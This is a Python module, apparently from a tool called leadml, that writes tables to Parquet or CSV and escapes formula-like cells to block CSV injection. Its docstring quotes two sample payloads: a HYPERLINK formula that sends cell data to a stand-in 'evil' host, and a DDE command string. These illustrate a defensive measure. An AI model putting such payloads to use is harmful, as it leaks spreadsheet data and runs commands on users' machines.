"""Write a table where the user asked for it: Parquet for ``.parquet``, else CSV.

Every CSV leadml writes is opened in a spreadsheet sooner or later, and its cells come from CRM
exports anyone could type into: a cell such as ``=HYPERLINK("http://evil/?"&A2, "click")`` or
``+cmd|' /C calc'!A0`` is run as a formula by Excel and LibreOffice (CSV or formula injection).
As OWASP advises, a text cell (or header) that begins with ``= + - @``, a tab or a carriage
return is written with a leading apostrophe, which spreadsheets show as text. Numbers are left
alone, in number columns and as text ("-12.5" cannot run anything), so a negative number stays
a number. Parquet keeps types and is never read as formulas: it is written as it is.

Lines end in CRLF, as RFC 4180 has it. With pandas' default "\n", Python's csv writer leaves a
bare carriage return inside a cell (CRM notes carry them) unquoted, and every reader then cuts
the row there; with CRLF as the terminator any cell holding either character is quoted.
"""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd

#: What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_START = r"^[=+\-@\t\r]"
#: Plain numbers are safe however they start: "-12.5", "+3", "-1e-3".
PLAIN_NUMBER = r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$"
_FORMULA_START = re.compile(FORMULA_START)
_PLAIN_NUMBER = re.compile(PLAIN_NUMBER)
LINE_END = "\r\n"


def escape_cell(value: object) -> object:
    """One value as it is safe to write to CSV (only text can change)."""
    if isinstance(value, str) and _FORMULA_START.match(value) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def escape_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with formula-like text cells and headers escaped (a copy only if needed).

    Vectorised per text column: columns of numbers, booleans and dates are never looked at.
    """
    out = frame
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if isinstance(column.dtype, pd.CategoricalDtype):
            if all(escape_cell(c) is c for c in column.cat.categories):
                continue
            column = column.astype(object)
        elif not (pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column)):
            continue
        try:
            text = column.str  # non-text cells of a mixed column give NaN, taken as False
        except AttributeError:  # an object column holding no text at all
            continue
        risky = text.match(FORMULA_START, na=False) & ~text.match(PLAIN_NUMBER, na=False)
        if not risky.any():
            continue
        if out is frame:
            out = frame.copy()
        values = column.to_numpy(dtype=object, copy=True)
        mask = risky.to_numpy(dtype=bool)
        values[mask] = ["'" + v for v in values[mask]]
        out.isetitem(position, values)
    headers = [escape_cell(name) for name in out.columns]
    if headers != list(out.columns):
        out = out.set_axis(headers, axis=1)
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` (no index) as CSV text, formulas escaped: for files written elsewhere."""
    return escape_formulas(frame).to_csv(index=False, lineterminator=LINE_END)


def write_table(frame: pd.DataFrame, out: str | Path) -> Path:
    """Write ``frame`` (no index) as CSV or Parquet, by the file's suffix; folders are made."""
    path = Path(out)
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.suffix.lower() == ".parquet":
        frame.to_parquet(path, index=False)
    else:
        escape_formulas(frame).to_csv(path, index=False, lineterminator=LINE_END)
    return path
